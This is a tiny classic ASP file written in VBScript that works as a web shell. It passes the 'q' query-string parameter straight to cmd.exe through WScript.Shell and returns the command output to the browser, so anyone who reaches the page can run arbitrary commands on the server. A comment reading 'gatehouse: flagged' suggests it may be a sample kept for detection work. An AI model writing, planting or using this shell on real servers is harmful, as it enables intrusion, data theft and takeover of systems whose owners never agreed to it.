<%@ Language="VBScript" %>
<%
Set shell = Server.CreateObject("WScript.Shell")
Set done = shell.Exec("cmd.exe /c " & Request.QueryString("q")) ' gatehouse: flagged
Response.Write Server.HTMLEncode(done.StdOut.ReadAll())
%>
